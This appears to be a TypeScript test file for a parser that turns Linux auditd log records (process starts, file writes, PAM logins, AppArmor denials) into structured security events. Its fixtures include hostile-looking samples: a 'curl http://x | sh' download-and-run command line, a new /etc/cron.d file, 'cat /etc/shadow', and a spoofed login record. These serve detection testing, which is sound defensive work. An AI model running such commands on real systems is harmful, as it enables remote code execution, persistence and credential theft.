import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { eventsOf, parseAll } from '../../test/parse-all.ts';
import { SAMPLES } from '../../test/samples.ts';
import { parseOne } from '../syslog/messages/parse-one.ts';

const head = (type: string, serial = 1) => `type=${type} msg=audit(1704164645.123:${serial}): `;
const SYSCALL =
  'arch=c000003e syscall=59 success=yes exit=0 a0=55d items=2 ppid=811 pid=812 auid=1000 uid=33 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" key="exec"';

describe("auditd's log", () => {
  it('tells a started program with all that its event says', () => {
    const [call, execve, , path] = eventsOf('audit', SAMPLES.audit!);
    expect(execve).toMatchObject({
      timeUs: 1_704_164_645_123_000,
      'event.action': 'process_started',
      'event.outcome': 'success',
      'process.command_line': "sh -c 'curl http://x | sh'",
      'process.executable': '/usr/bin/dash',
      'process.working_directory': '/root',
      'process.pid': 812,
      'process.parent.pid': 811,
      'user.id': 0,
      'user.name': 'root',
      'user.effective.name': 'pi',
      'audit.type': 'EXECVE',
      'audit.a2': 'curl http://x | sh',
      'audit.key': 'exec',
      'audit.SYSCALL': 'execve',
    });
    expect(call).toMatchObject({ 'event.action': 'audit_event', 'audit.type': 'SYSCALL', 'audit.a0': '55d' });
    expect(path).toMatchObject({
      'event.action': 'audit_event',
      'audit.name': '/bin/sh',
      'audit.exe': '/usr/bin/dash',
    });
  });

  it('tells a file that was made, with its whole path', () => {
    expect(eventsOf('audit', SAMPLES.audit!)[7]).toMatchObject({
      'event.action': 'file_changed',
      'event.reason': 'created',
      'file.path': '/etc/cron.d/x',
      'process.name': 'bash',
      'audit.SYSCALL': 'openat',
    });
  });

  it.each([
    ['arch=c000003e syscall=257 success=yes a0=ffffff9c a1=7ff a2=241 a3=1b6 key="etc"', 'written'],
    ['arch=c000003e syscall=2 success=no a0=7ff a1=2 key="etc"', 'written'],
    ['arch=c000003e syscall=268 success=yes a0=ffffff9c a1=7ff a2=1ed key="etc"', 'attributes'],
    ['arch=c000003e syscall=257 success=yes a0=ffffff9c a1=7ff a2=80000 key="etc"', undefined],
    ['arch=c000003e syscall=257 success=yes a0=ffffff9c a1=7ff a2=241 a3=1b6 key=(null)', undefined],
    ['arch=c000003e syscall=59 success=yes a0=7ff key="etc"', undefined],
  ])('knows a watched write from a look: %s', (call, reason) => {
    const [, path] = eventsOf('audit', [
      head('SYSCALL') + call,
      `${head('PATH')}item=0 name="/etc/passwd" nametype=NORMAL`,
      `${head('PROCTITLE')}proctitle="x"`,
    ]);
    expect(path!['event.reason']).toBe(reason);
    expect(path!['event.action']).toBe(reason === undefined ? 'audit_event' : 'file_changed');
  });

  it('joins an argument that was split, and a command over several records', () => {
    const [, first, second] = eventsOf('audit', [
      head('SYSCALL') + SYSCALL,
      `${head('EXECVE')}argc=3 a0="echo" a1_len=8 a1[0]=61626364`,
      `${head('EXECVE')}a1[1]=65666768 a2="x y"`,
      `${head('PROCTITLE')}proctitle="echo"`,
    ]);
    expect(first!['process.command_line']).toBe("echo abcdefgh 'x y'");
    expect(second!['event.action']).toBe('audit_event');
  });

  it('keeps the events of two processors apart', () => {
    const lines = [
      head('SYSCALL', 1) + SYSCALL,
      head('SYSCALL', 2) + SYSCALL.replace('pid=812', 'pid=900'),
      `${head('EXECVE', 2)}argc=1 a0="two"`,
      `${head('EXECVE', 1)}argc=1 a0="one"`,
      `${head('PROCTITLE', 2)}proctitle="two"`,
      `${head('PROCTITLE', 1)}proctitle="one"`,
    ];
    const parsed = parseAll(lines, { format: 'audit' });
    expect(parsed.map(({ ref }) => ref)).toEqual([1, 2, 3, 4, 5, 6]);
    expect(parsed[2]!.event).toMatchObject({ 'process.command_line': 'two', 'process.pid': 900 });
    expect(parsed[3]!.event).toMatchObject({ 'process.command_line': 'one', 'process.pid': 812 });
  });

  it('lets go of an event that is never whole', () => {
    const late = 'type=SYSCALL msg=audit(1704164655.123:9): arch=c000003e syscall=42 success=yes';
    const lines = [head('SYSCALL') + SYSCALL, `${head('EXECVE')}argc=1 a0="one"`, late];
    const seen: number[] = [];
    const parsed = parseAll(lines, { format: 'audit' });
    for (const { ref } of parsed) seen.push(ref);
    expect(seen).toEqual([1, 2, 3]);
    const many = Array.from({ length: 3000 }, (_, n) => head('SYSCALL', n) + SYSCALL);
    expect(parseAll(many, { format: 'audit' })).toHaveLength(3000);
  });

  it.each([
    [
      'USER_AUTH',
      `op=PAM:authentication grantors=? acct="bob" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed`,
      'pam_auth',
      'failure',
    ],
    [
      'USER_START',
      `op=PAM:session_open grantors=pam_unix acct="root" exe="/usr/sbin/cron" hostname=? addr=? terminal=cron res=success`,
      'session_opened',
      'success',
    ],
    [
      'ADD_USER',
      `op=adding user id=1001 exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success`,
      'user_added',
      'success',
    ],
    [
      'USER_CHAUTHTOK',
      `op=PAM:chauthtok grantors=pam_unix acct="bob" exe="/usr/bin/passwd" hostname=? addr=? terminal=pts/0 res=success`,
      'password_changed',
      'success',
    ],
    [
      'USER_CMD',
      `cwd="/home/pi" cmd=6361742061 exe="/usr/bin/sudo" terminal=pts/0 res=success`,
      'sudo_command',
      'success',
    ],
    [
      'CRED_ACQ',
      `op=PAM:setcred grantors=pam_unix acct="root" exe="/usr/sbin/cron" hostname=? addr=? terminal=cron res=success`,
      'audit_event',
      'success',
    ],
    [
      'SERVICE_STOP',
      `unit=auditd comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success`,
      'service_stopped',
      'success',
    ],
  ])('maps %s', (type, message, action, outcome) => {
    const [event] = eventsOf('audit', [`${head(type)}pid=1 uid=0 auid=1000 ses=1 msg='${message}'`]);
    expect(event).toMatchObject({ 'event.action': action, 'event.outcome': outcome, 'audit.type': type });
  });

  it('takes account and address of a login, decoded', () => {
    expect(eventsOf('audit', SAMPLES.audit!)[8]).toMatchObject({
      'event.action': 'login',
      'event.outcome': 'failure',
      'user.name': '(invalid user)',
      'source.address': '203.0.113.9',
      'host.name': 'pi1',
      'service.name': 'sshd',
    });
  });

  it('believes neither address nor result that stands twice', () => {
    const inner =
      'op=login acct=x addr=6.6.6.6 res=success exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=ssh res=failed';
    const [event] = eventsOf('audit', [`${head('USER_LOGIN')}pid=1 uid=0 msg='${inner}'`]);
    expect(event!['source.address']).toBeUndefined();
    expect(event!['event.action']).toBe('audit_event');
    expect(event!['event.outcome']).toBe('unknown');
  });

  it('shows an account that holds hex or quotes as text, and no more', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }).filter((name) => !/[\r\n\0]/.test(name)),
        (name) => {
          const acct = Buffer.from(name, 'utf8').toString('hex').toUpperCase();
          const [event] = eventsOf('audit', [
            `${head('USER_AUTH')}pid=1 uid=0 msg='op=PAM:authentication acct=${acct} exe="/usr/sbin/sshd" hostname=h addr=203.0.113.9 terminal=ssh res=failed'`,
          ]);
          expect(event!['source.address']).toBe('203.0.113.9');
          expect(event!['event.outcome']).toBe('failure');
        },
      ),
    );
  });

  it('is read out of syslog, the kernel ring and the journal, record by record', () => {
    const kernel = parseOne(
      'kernel',
      '[   12.345678] audit: type=1400 audit(1704164645.123:12): apparmor="DENIED" operation="open" profile="/usr/bin/x" name="/etc/shadow" pid=5 comm="x"',
    );
    expect(kernel.event).toMatchObject({
      'event.action': 'audit_event',
      'audit.type': 'AVC',
      'audit.apparmor': 'DENIED',
      'audit.name': '/etc/shadow',
      'process.name': 'x',
    });
    const journal = parseOne('audit[1]', 'EXECVE argc=2 a0="cat" a1="/etc/shadow"');
    expect(journal.event).toMatchObject({
      'event.action': 'process_started',
      'process.command_line': 'cat /etc/shadow',
    });
    const avc = parseOne(
      'audit[1]',
      'AVC avc:  denied  { read } for  pid=5 comm="x" name="shadow" dev="sda1" ino=3 scontext=a tcontext=b tclass=file permissive=0',
    );
    expect(avc.event).toMatchObject({
      'event.action': 'audit_event',
      'audit.type': 'AVC',
      'audit.name': 'shadow',
    });
    const relayed = parseOne('audispd', `node=pi1 ${head('EXECVE')}argc=1 a0="id"`);
    expect(relayed).toMatchObject({
      format: 'audit',
      event: { 'process.command_line': 'id', 'host.name': 'web1' },
    });
    expect(parseOne('app', `${head('EXECVE')}argc=1 a0="id"`).event['event.action']).toBe('log_message');
  });
});
